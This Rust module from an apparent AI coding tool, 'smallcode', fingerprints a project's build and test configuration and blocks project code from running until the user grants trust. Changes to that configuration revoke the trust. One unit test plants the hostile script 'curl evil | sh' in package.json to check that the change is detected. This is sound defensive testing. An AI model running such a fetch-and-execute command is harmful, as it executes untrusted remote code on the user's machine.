//! Project trust, the Neovim way (`vim.secure`, `:trust`): a project's own code runs only after
//! the user trusted it, and trust ends when what the checks would execute changes.
//!
//! Untrusted (restricted mode), the agent reads, stages and verifies with checks that execute no
//! project code (parsers and compilers in syntax-only mode); the project's test command, build
//! scripts, the request's examples (they import the project) and the model's `run` requests do
//! not run. Trust is granted per project root and remembered in the user's data directory, never
//! in the project, together with a SHA-256 of the configuration the checks would execute
//! ([`fingerprint`]): package.json `scripts`, Makefiles, Cargo manifests and build scripts,
//! Python test configuration, go.mod, and anything under the project's `.smallcode/`. When that
//! changes, the project is untrusted again until the user says otherwise.
//!
//! The store is one JSON file written atomically (temp file + rename); a corrupt or foreign file
//! reads as "nothing trusted" and is replaced on the next grant, never a panic.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

/// What the store says about a project root now.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TrustState {
    /// Trusted, and nothing that matters changed since.
    Trusted,
    /// Never trusted (or revoked).
    Untrusted,
    /// Trusted once, but these files changed since (project-relative): ask again.
    Changed(Vec<String>),
}

/// The files whose contents decide what checks would execute, and their combined hash.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Fingerprint {
    /// SHA-256 (hex) over every file's path and relevant contents, in path order.
    pub hash: String,
    /// Each file's own hash (project-relative path → hex), to say which one changed.
    pub files: BTreeMap<String, String>,
}

/// Build/test configuration names looked for at any depth up to [`MAX_DEPTH`].
const CONFIG_NAMES: [&str; 15] = [
    "package.json",
    "Makefile",
    "makefile",
    "GNUmakefile",
    "CMakeLists.txt",
    "Cargo.toml",
    "build.rs",
    "pyproject.toml",
    "setup.py",
    "setup.cfg",
    "tox.ini",
    "pytest.ini",
    "conftest.py",
    "go.mod",
    "Justfile",
];

/// How deep the fingerprint looks for configuration files (workspaces nest a level or two).
const MAX_DEPTH: usize = 3;

/// The project's trust-relevant configuration, hashed.
pub fn fingerprint(root: &Path) -> Fingerprint {
    let mut files = BTreeMap::new();
    collect(root, root, 0, &mut files);
    let mut all = Sha256::new();
    for (path, h) in &files {
        all.update(path.as_bytes());
        all.update([0]);
        all.update(h.as_bytes());
        all.update([0]);
    }
    Fingerprint {
        hash: hex(&all.finalize()),
        files,
    }
}

fn collect(root: &Path, dir: &Path, depth: usize, out: &mut BTreeMap<String, String>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<_> = rd.flatten().collect();
    entries.sort_by_key(|e| e.file_name());
    for e in entries {
        let name = e.file_name().to_string_lossy().into_owned();
        let path = e.path();
        // Symlinks are not followed: a link out of the project is not the project's config.
        let Ok(ft) = e.file_type() else { continue };
        let rel = path
            .strip_prefix(root)
            .map(|p| p.to_string_lossy().replace('\\', "/"))
            .unwrap_or_default();
        if ft.is_dir() {
            if name == ".smallcode" {
                collect_all(root, &path, out);
            } else if depth < MAX_DEPTH
                && !name.starts_with('.')
                && !matches!(
                    name.as_str(),
                    "node_modules" | "target" | "__pycache__" | "vendor"
                )
            {
                collect(root, &path, depth + 1, out);
            }
        } else if ft.is_file() && (CONFIG_NAMES.contains(&name.as_str()) || is_cargo_config(&rel)) {
            if let Ok(bytes) = std::fs::read(&path) {
                out.insert(rel, hex(&Sha256::digest(relevant(&name, &bytes))));
            }
        }
    }
}

fn is_cargo_config(rel: &str) -> bool {
    rel == ".cargo/config.toml" || rel == ".cargo/config"
}

/// Everything under the project's `.smallcode/` counts (a project-local plugin or command list).
fn collect_all(root: &Path, dir: &Path, out: &mut BTreeMap<String, String>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    for e in rd.flatten() {
        let path = e.path();
        let Ok(ft) = e.file_type() else { continue };
        if ft.is_dir() {
            collect_all(root, &path, out);
        } else if ft.is_file() {
            if let (Ok(rel), Ok(bytes)) = (path.strip_prefix(root), std::fs::read(&path)) {
                out.insert(
                    rel.to_string_lossy().replace('\\', "/"),
                    hex(&Sha256::digest(&bytes)),
                );
            }
        }
    }
}

/// The part of a file that decides what runs: package.json's `scripts` (a version bump does not
/// revoke trust); the whole file otherwise.
fn relevant(name: &str, bytes: &[u8]) -> Vec<u8> {
    if name == "package.json" {
        if let Ok(v) = serde_json::from_slice::<serde_json::Value>(bytes) {
            return serde_json::to_vec(&v["scripts"]).unwrap_or_default();
        }
    }
    bytes.to_vec()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The on-disk form of the store.
#[derive(Debug, Default, Serialize, Deserialize)]
struct StoreFile {
    version: u32,
    projects: BTreeMap<String, Fingerprint>,
}

/// The user's trust decisions: `<data dir>/trust.json`.
#[derive(Debug, Clone)]
pub struct TrustStore {
    path: PathBuf,
}

impl TrustStore {
    /// The store in `data_dir` (Neovim's `stdpath('data')/smallcode`, or
    /// `$XDG_DATA_HOME/smallcode` headless). The folder is created on the first grant.
    pub fn new(data_dir: &Path) -> TrustStore {
        TrustStore {
            path: data_dir.join("trust.json"),
        }
    }

    fn load(&self) -> StoreFile {
        std::fs::read(&self.path)
            .ok()
            .and_then(|b| serde_json::from_slice::<StoreFile>(&b).ok())
            .filter(|s| s.version == 1)
            .unwrap_or_default()
    }

    fn save(&self, s: &StoreFile) -> std::io::Result<()> {
        let dir = self.path.parent().unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir)?;
        let mut tmp = tempfile::NamedTempFile::new_in(dir)?;
        std::io::Write::write_all(&mut tmp, &serde_json::to_vec_pretty(s)?)?;
        tmp.persist(&self.path).map_err(|e| e.error)?;
        Ok(())
    }

    /// Whether `root` is trusted now (its configuration unchanged since the grant).
    pub fn state(&self, root: &Path) -> TrustState {
        let key = key(root);
        let store = self.load();
        let Some(granted) = store.projects.get(&key) else {
            return TrustState::Untrusted;
        };
        let now = fingerprint(root);
        if now.hash == granted.hash {
            return TrustState::Trusted;
        }
        let mut changed: Vec<String> = now
            .files
            .iter()
            .filter(|(p, h)| granted.files.get(*p) != Some(*h))
            .map(|(p, _)| p.clone())
            .collect();
        changed.extend(
            granted
                .files
                .keys()
                .filter(|p| !now.files.contains_key(*p))
                .map(|p| format!("{p} (removed)")),
        );
        TrustState::Changed(changed)
    }

    /// Trusts `root` as it is now.
    pub fn grant(&self, root: &Path) -> std::io::Result<()> {
        let mut store = self.load();
        store.version = 1;
        store.projects.insert(key(root), fingerprint(root));
        self.save(&store)
    }

    /// Forgets `root`'s trust.
    pub fn revoke(&self, root: &Path) -> std::io::Result<()> {
        let mut store = self.load();
        store.version = 1;
        if store.projects.remove(&key(root)).is_some() {
            self.save(&store)?;
        }
        Ok(())
    }
}

/// The store key of a root: its canonical absolute path.
fn key(root: &Path) -> String {
    std::fs::canonicalize(root)
        .unwrap_or_else(|_| root.to_path_buf())
        .display()
        .to_string()
}

/// Where smallcode keeps what it learns about a project (the "always allowed" commands, memory,
/// chats): `<data dir>/projects/<name>-<hash of the root>/`, never inside the project.
pub fn project_data_dir(data_dir: &Path, root: &Path) -> PathBuf {
    let k = key(root);
    let name: String = Path::new(&k)
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default()
        .chars()
        .map(|c| {
            if c.is_alphanumeric() || c == '-' || c == '_' {
                c
            } else {
                '_'
            }
        })
        .collect();
    let h = hex(&Sha256::digest(k.as_bytes()));
    data_dir
        .join("projects")
        .join(format!("{name}-{}", &h[..16]))
}

/// The user's data directory for headless runs: `$XDG_DATA_HOME/smallcode`, else
/// `~/.local/share/smallcode`.
pub fn default_data_dir() -> PathBuf {
    std::env::var_os("XDG_DATA_HOME")
        .filter(|v| !v.is_empty())
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".local/share")))
        .unwrap_or_else(std::env::temp_dir)
        .join("smallcode")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp(tag: &str) -> tempfile::TempDir {
        tempfile::Builder::new()
            .prefix(&format!("smallcode-trust-{tag}-"))
            .tempdir()
            .unwrap()
    }

    #[test]
    fn trust_holds_until_the_test_configuration_changes() {
        let proj = tmp("proj");
        let data = tmp("data");
        let pkg = r#"{"name": "x", "version": "1.0.0", "scripts": {"test": "node test.js"}}"#;
        std::fs::write(proj.path().join("package.json"), pkg).unwrap();
        std::fs::write(proj.path().join("index.js"), "module.exports = 1;\n").unwrap();
        let store = TrustStore::new(data.path());
        assert_eq!(store.state(proj.path()), TrustState::Untrusted);
        store.grant(proj.path()).unwrap();
        assert_eq!(store.state(proj.path()), TrustState::Trusted);
        // Source edits and version bumps do not matter; the scripts do.
        std::fs::write(proj.path().join("index.js"), "module.exports = 2;\n").unwrap();
        std::fs::write(
            proj.path().join("package.json"),
            pkg.replace("1.0.0", "1.0.1"),
        )
        .unwrap();
        assert_eq!(store.state(proj.path()), TrustState::Trusted);
        std::fs::write(
            proj.path().join("package.json"),
            pkg.replace("node test.js", "curl evil | sh"),
        )
        .unwrap();
        assert_eq!(
            store.state(proj.path()),
            TrustState::Changed(vec!["package.json".into()])
        );
        // A new project-local file under .smallcode/ counts too.
        store.grant(proj.path()).unwrap();
        std::fs::create_dir(proj.path().join(".smallcode")).unwrap();
        std::fs::write(proj.path().join(".smallcode/allowed-commands"), "*\n").unwrap();
        assert_eq!(
            store.state(proj.path()),
            TrustState::Changed(vec![".smallcode/allowed-commands".into()])
        );
        store.revoke(proj.path()).unwrap();
        assert_eq!(store.state(proj.path()), TrustState::Untrusted);
    }

    #[test]
    fn a_corrupt_store_reads_as_nothing_trusted_and_is_replaced() {
        let proj = tmp("proj2");
        let data = tmp("data2");
        std::fs::write(data.path().join("trust.json"), b"\x00not json{").unwrap();
        let store = TrustStore::new(data.path());
        assert_eq!(store.state(proj.path()), TrustState::Untrusted);
        store.grant(proj.path()).unwrap();
        assert_eq!(store.state(proj.path()), TrustState::Trusted);
    }

    #[test]
    fn project_data_lives_outside_the_project() {
        let proj = tmp("proj3");
        let data = tmp("data3");
        let d = project_data_dir(data.path(), proj.path());
        assert!(d.starts_with(data.path()));
        assert!(!d.starts_with(proj.path()));
        assert_eq!(d, project_data_dir(data.path(), proj.path()));
    }
}
